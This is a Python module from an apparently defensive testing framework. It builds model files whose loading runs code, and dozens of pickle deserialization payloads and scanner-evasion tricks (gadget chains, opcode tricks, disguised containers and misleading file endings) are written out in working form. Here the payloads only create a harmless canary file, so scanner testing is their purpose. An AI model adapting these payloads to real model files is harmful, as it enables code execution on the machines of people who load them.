"""Model files with a harmless payload that runs on load: see `PlantPayload`."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from random import Random
from typing import ClassVar

from hauberk.core.artifact import ModelFile
from hauberk.core.attack import Attacked, Transform
from hauberk.core.threat import ThreatId
from hauberk.errors import UsageError
from hauberk.methods.pickle_payloads import BODIES
from hauberk.methods.pickle_writing import array, blob, call, dotted, method, name, text, whole

CANARY_NAME = "canary"
"""What every payload makes in the folder of the model; its presence is the proof."""


@dataclass(frozen=True, slots=True, kw_only=True)
class PlantPayload(Transform[ModelFile]):
    """Write a model file whose loading makes a harmless file, the canary, beside it.

    The variants come from published advisories and write-ups about scanners of pickles:
    plain calls of the system, chains of harmless looking lookups, gadgets of the standard
    library and of numpy and scipy, tricks of the format (old opcodes, aliased memo slots,
    names computed while loading, endings that break after the payload has run), and
    containers that scanners do not open or open differently from loaders. How the victim
    opens the file stands in ``truth["loader"]``.

    Args:
        variant: Name of one variant; by default the random generator picks one.

    References:
        MITRE ATLAS AML.T0011.000. Advisories CVE-2025-1716 and CVE-2025-10155 to 10157
        (picklescan). M. Slaviero, "Sour pickles", Black Hat USA 2011.
    """

    title: ClassVar[str] = "Plant code that runs when a model file is loaded"
    threats: ClassVar[tuple[ThreatId, ...]] = (ThreatId("EX-1"),)
    subject: ClassVar[type] = ModelFile

    variant: str | None = None

    def apply(self, subject: ModelFile, rng: Random) -> Attacked[ModelFile]:
        """The attacked twin, in a file of its own beside ``subject``.

        Raises:
            UsageError: There is no such variant.
        """
        label = self.variant or rng.choice(tuple(VARIANTS))
        if label not in VARIANTS:
            raise UsageError(f"there is no variant {label!r}", expected=" ".join(VARIANTS))
        made = VARIANTS[label]
        canary = subject.path.parent / CANARY_NAME
        path = subject.path.parent / f"{label}{made.suffix}"
        path.write_bytes(made.make(str(canary)))
        twin = ModelFile(name=path.name, path=path)
        truth = {"variant": label, "loader": made.loader, "canary": str(canary)}
        return Attacked(subject=twin, truth=truth)


@dataclass(frozen=True, slots=True, kw_only=True)
class Variant:
    """One way to make such a file.

    Attributes:
        make: The bytes of the file for the path of the canary.
        loader: ``pickle``, ``joblib``, ``numpy``, ``gzip``, ``zip``, ``tar``, ``torch`` or
            ``stacked``: how the victim opens it.
        suffix: Ending that the file is given; often not the one it should have.
    """

    make: Callable[[str], bytes]
    loader: str = "pickle"
    suffix: str = ".pkl"


def _touch(canary: str) -> str:
    """A shell command that makes the canary."""
    return f": > '{canary}'"


def _source(canary: str) -> str:
    """Python source that makes the canary."""
    return f"open({canary!r}, 'w').close()"


def _code(canary: str) -> bytes:
    return call(name("marshal.loads"), blob(marshal.dumps(compile(_source(canary), "x", "exec"))))


def _shell(canary: str) -> bytes:
    return array(text("sh"), text("-c"), text(_touch(canary)))


def _system(canary: str) -> bytes:
    """The opcodes of the plain payload, which the containers carry."""
    return call(name("os.system"), text(_touch(canary)))


def _module(path: str) -> bytes:
    return call(name("importlib.import_module"), text(path))


def _distribution(at: str) -> bytes:
    """A distribution of scipy, which runs its template as source when its state is set."""
    made = name("scipy.stats._continuous_distns.norm_gen") + b")\x81"
    state = b"}" + text("_parse_arg_template") + text(_source(at)) + b"s"
    return made + state + b"b"


# Each body is the opcodes between PROTO 4 and STOP, for the path of the canary.

_CALLS: Mapping[str, Callable[[str], bytes]] = {
    "os-system": _system,
    "posix-system": lambda at: call(name("posix.system"), text(_touch(at))),
    "subprocess-call": lambda at: call(name("subprocess.call"), _shell(at)),
    "subprocess-popen": lambda at: call(name("subprocess.Popen"), _shell(at)),
    "subprocess-check-output": lambda at: call(name("subprocess.check_output"), _shell(at)),
    "os-spawnv": lambda at: call(name("os.spawnv"), b"K\x00", text("/bin/sh"), _shell(at)),
    "builtins-eval": lambda at: call(name("builtins.eval"), text(_source(at))),
    "builtins-exec": lambda at: call(name("builtins.exec"), text(_source(at))),
    "builtins-open": lambda at: call(name("builtins.open"), text(at), text("w")),
    "io-fileio": lambda at: call(name("_io.FileIO"), text(at), text("w")),
    "os-mkdir": lambda at: call(name("os.mkdir"), text(at)),
    "shutil-copyfile": lambda at: call(name("shutil.copyfile"), text("/dev/null"), text(at)),
    "logging-filehandler": lambda at: call(name("logging.FileHandler"), text(at)),
    "zipfile-create": lambda at: call(name("zipfile.ZipFile"), text(at), text("w")),
    "timeit": lambda at: call(name("timeit.timeit"), text(_source(at)), text("pass")),
    "cprofile-run": lambda at: call(name("profile.run"), text(_source(at)), text(at)),
    "code-runner": lambda at: method(
        call(name("code.InteractiveInterpreter")), "runsource", text(_source(at))
    ),
    "runpy": lambda at: call(name("runpy._run_code"), _code(at), b"}"),
}

_CHAINS: Mapping[str, Callable[[str], bytes]] = {
    "import-getattr": lambda at: method(
        call(name("builtins.__import__"), text("os")), "system", text(_touch(at))
    ),
    "importlib-getattr": lambda at: method(_module("os"), "system", text(_touch(at))),
    "methodcaller": lambda at: call(
        call(name("operator.methodcaller"), text("system"), text(_touch(at))), _module("os")
    ),
    "attrgetter": lambda at: call(
        call(call(name("operator.attrgetter"), text("system")), _module("os")), text(_touch(at))
    ),
    "map": lambda at: call(
        name("builtins.list"),
        call(name("builtins.map"), name("os.system"), array(text(_touch(at)))),
    ),
    "partial": lambda at: call(
        call(name("functools.partial"), name("os.system"), text(_touch(at)))
    ),
    "reduce-getattr": lambda at: call(
        call(
            name("functools.reduce"), name("builtins.getattr"), array(_module("os"), text("system"))
        ),
        text(_touch(at)),
    ),
    "pathlib-touch": lambda at: method(call(name("pathlib.PosixPath"), text(at)), "touch"),
    "marshal-function": lambda at: call(
        call(name("types.FunctionType"), _code(at), call(name("builtins.globals")))
    ),
    "ctypes": lambda at: method(
        call(name("ctypes.CDLL"), b"N"), "system", blob(_touch(at).encode())
    ),
    "pickle-in-pickle": lambda at: call(name("pickle.loads"), blob(whole(_system(at)))),
    "c-pickle-in-pickle": lambda at: call(name("_pickle.loads"), blob(whole(_system(at), 2))),
    "numpy-runstring": lambda at: call(
        name("numpy.testing._private.utils.runstring"), text(_source(at)), b"}"
    ),
    "numpy-memmap": lambda at: call(
        name("numpy.memmap"), text(at), text("u1"), text("w+"), b"K\x00", b"K\x01"
    ),
    "numpy-ufunc-reconstruct": lambda at: call(
        call(name("numpy.core._ufunc_reconstruct"), text("os"), text("system")), text(_touch(at))
    ),
    "scipy-template": _distribution,
    "setstate-hook": lambda at: (
        call(name("types.SimpleNamespace"))
        + b"}"
        + text("__setstate__")
        + name("os.system")
        + b"sb"
        + text(_touch(at))
        + b"b"
    ),
    "filled-callable": lambda at: (
        call(name("collections.OrderedDict")) + b"(" + text("a") + _system(at) + b"u"
    ),
}


# Each file is written whole: what matters is how its opcodes are put together.

_TRICKS: Mapping[str, Callable[[str], bytes]] = {
    "protocol-0": lambda at: f"cos\nsystem\n(V{_touch(at)}\ntR.".encode(),
    "protocol-1": lambda at: b"cos\nsystem\n(" + text(_touch(at)) + b"tR.",
    "protocol-2": lambda at: whole(_system(at), 2),
    "python2-eval": lambda at: f"c__builtin__\neval\n(V{_source(at)}\ntR.".encode(),
    "inst": lambda at: b"(" + text(_touch(at)) + b"ios\nsystem\n.",
    "obj": lambda at: b"(" + name("os.system") + text(_touch(at)) + b"o.",
    "newobj": lambda at: whole(name("subprocess.Popen") + b")\x81" + b"0" + _system(at)),
    "newobj-ex": lambda at: whole(
        name("logging.FileHandler") + b")}\x920" + call(name("logging.FileHandler"), text(at))
    ),
    "dotted-name": lambda at: whole(call(dotted("logging", "os.system"), text(_touch(at)))),
    "memo-alias": lambda at: whole(
        text("builtins")
        + b"q\x00"
        + text("os")
        + b"q\x01"
        + b"00"
        + b"h\x01q\x00"
        + b"0"
        + b"h\x00"
        + text("system")
        + b"\x93"
        + b"("
        + text(_touch(at))
        + b"tR"
    ),
    "computed-name": lambda at: whole(
        call(name("builtins.str"), blob(b"os"), text("ascii"))
        + text("system")
        + b"\x93"
        + b"("
        + text(_touch(at))
        + b"tR"
    ),
    "broken-tail": lambda at: whole(_system(at))[:-1] + b"0" * 9 + b"\xff\xff",
    "no-stop": lambda at: whole(_system(at))[:-1],
    "discarded-result": lambda at: whole(_system(at) + b"0" + text("weights")),
    "late-protocol": lambda at: b"\x80\x02" + text("x") + b"0\x80\x04" + _system(at) + b".",
    "huge-frame": lambda at: b"\x80\x04" + _system(at) + b"0\x95" + b"\xff" * 8 + b"N.",
}


def _zip(members: Mapping[str, bytes], *, compressed: bool = True) -> bytes:
    buffer = io.BytesIO()
    method_ = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", method_) as archive:
        for label, data in members.items():
            archive.writestr(zipfile.ZipInfo(label), data, compress_type=method_)
    return buffer.getvalue()


def _tar(label: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo(label)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _npy(data: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    padded = header.encode() + b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(padded).to_bytes(2, "little") + padded + data


def _mangled(data: bytes) -> bytes:
    """A zip archive with wrong checksums, which torch's reader does not look at."""
    for magic, at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        start = data.find(magic) + at
        data = data[:start] + b"\xde\xad\xbe\xef" + data[start + 4 :]
    return data


def _payload(at: str) -> bytes:
    return whole(_system(at))


_CONTAINERS: Mapping[str, Variant] = {
    "joblib-plain": Variant(make=_payload, loader="joblib", suffix=".joblib"),
    "joblib-zlib": Variant(
        make=lambda at: zlib.compress(_payload(at)), loader="joblib", suffix=".joblib"
    ),
    "joblib-gzip": Variant(
        make=lambda at: gzip.compress(_payload(at)), loader="joblib", suffix=".bin"
    ),
    "joblib-bz2": Variant(
        make=lambda at: bz2.compress(_payload(at)), loader="joblib", suffix=".joblib"
    ),
    "joblib-xz": Variant(
        make=lambda at: lzma.compress(_payload(at)), loader="joblib", suffix=".model"
    ),
    "joblib-lzma": Variant(
        make=lambda at: lzma.compress(_payload(at), format=lzma.FORMAT_ALONE),
        loader="joblib",
        suffix=".joblib",
    ),
    "gzip-pickle": Variant(
        make=lambda at: gzip.compress(_payload(at)), loader="gzip", suffix=".txt"
    ),
    "npy-objects": Variant(make=lambda at: _npy(_payload(at)), loader="numpy", suffix=".npy"),
    "npz-objects": Variant(
        make=lambda at: _zip({"X.npy": _npy(_payload(at))}), loader="numpy", suffix=".npz"
    ),
    "zip-member": Variant(
        make=lambda at: _zip({"README.md": b"# model\n", "weights/0": _payload(at)}),
        loader="zip",
        suffix=".zip",
    ),
    "zip-in-zip": Variant(
        make=lambda at: _zip({"inner": _zip({"m": _payload(at)})}), loader="zip", suffix=".onnx"
    ),
    "tar-member": Variant(
        make=lambda at: _tar("model.png", _payload(at)), loader="tar", suffix=".tar"
    ),
    "gzipped-tar": Variant(
        make=lambda at: gzip.compress(_tar("model", _payload(at))), loader="tar", suffix=".tgz"
    ),
    "torch-zip": Variant(
        make=lambda at: _zip(
            {"m/data.pkl": _payload(at), "m/version": b"3\n", "m/data/0": bytes(64)},
            compressed=False,
        ),
        loader="torch",
        suffix=".pt",
    ),
    "torch-zip-bad-checksums": Variant(
        make=lambda at: _mangled(_zip({"m/data.pkl": _payload(at)}, compressed=False)),
        loader="torch",
        suffix=".bin",
    ),
    "stacked-pickles": Variant(
        make=lambda at: whole(b"K\x01", 2) + whole(b"}", 2) + whole(_system(at), 2),
        loader="stacked",
        suffix=".pth",
    ),
    "pickle-before-zip": Variant(
        make=lambda at: _payload(at) + _zip({"readme.txt": b"harmless"}), suffix=".zip"
    ),
    "named-as-picture": Variant(make=_payload, suffix=".png"),
    "named-as-safetensors": Variant(make=_payload, suffix=".safetensors"),
}

_CARRIERS: tuple[tuple[Callable[[bytes], bytes], str, str], ...] = (
    (zlib.compress, "joblib", ".pkl"),
    (lambda data: _zip({"m/data.pkl": data}, compressed=False), "torch", ".pth"),
    (_npy, "numpy", ".npy"),
    (lambda data: gzip.compress(_tar("weights", data)), "tar", ".h5"),
    (lambda data: b"\x80\x02}." + data, "stacked", ".bin"),
    (lambda data: data + _zip({"config.json": b"{}"}), "pickle", ".gguf"),
    (lambda data: _zip({"a": _zip({"b": data})}), "zip", ".keras"),
    (lambda data: b"\x80\x03" + data[2:-1], "pickle", ".onnx"),
)
"""Wrappings of a pickle, how they are opened, and an ending that they should not have."""


def _carried(body: Callable[[str], bytes], at: int) -> Variant:
    wrap, loader, suffix = _CARRIERS[at % len(_CARRIERS)]
    return Variant(make=lambda path: wrap(whole(body(path))), loader=loader, suffix=suffix)


VARIANTS: Mapping[str, Variant] = {
    **{
        label: Variant(make=lambda at, body=body: whole(body(at)))  # type: ignore[misc]
        for label, body in (*_CALLS.items(), *_CHAINS.items())
    },
    **{label: Variant(make=make) for label, make in _TRICKS.items()},
    **_CONTAINERS,
    **{
        label: Variant(make=lambda at, body=body: whole(body(at)))  # type: ignore[misc]
        for label, body in BODIES.items()
    },
    **{f"{label}-carried": _carried(body, at) for at, (label, body) in enumerate(BODIES.items())},
}
"""All variants by name."""
